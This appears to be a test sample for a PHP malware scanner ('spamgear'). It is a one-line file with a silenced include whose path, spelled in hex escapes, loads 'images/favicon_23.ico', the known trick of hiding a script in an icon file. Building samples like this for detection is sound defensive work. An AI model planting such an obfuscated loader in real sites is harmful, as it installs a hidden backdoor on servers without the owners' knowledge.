<?php
// spamgear test sample: an include whose path is spelt in hex escapes (a
// script hidden in an icon file)
@include "\x69\x6d\x61\x67\x65\x73\x2f\x66\x61\x76\x69\x63\x6f\x6e\x5f\x32\x33\x2e\x69\x63\x6f";
